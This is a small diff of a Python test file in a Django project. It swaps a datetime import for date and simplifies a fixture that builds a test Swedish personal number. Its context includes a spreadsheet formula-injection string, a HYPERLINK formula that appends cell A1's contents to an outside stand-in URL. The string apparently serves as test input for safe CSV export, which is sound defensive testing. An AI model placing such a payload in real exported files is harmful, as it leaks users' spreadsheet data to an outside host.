@@ -5,7 +5,7 @@ from __future__ import annotations
 
 import csv
 import io
-from datetime import datetime
+from datetime import date
 from decimal import Decimal
 
 import pytest
@@ -20,7 +20,7 @@ from samla.people.models import Participant
 from samla.people.tests.cast import Cast, sign_in
 
 HYPERLINK = '=HYPERLINK("https://example.invalid/?d="&A1,"Klicka")'
-DORA = idnumbers.test_personnummer(datetime(1970, 1, 5).date(), "F", index=2)
+DORA = idnumbers.test_personnummer(date(1970, 1, 5), "F", index=2)
 
 
 @pytest.mark.django_db
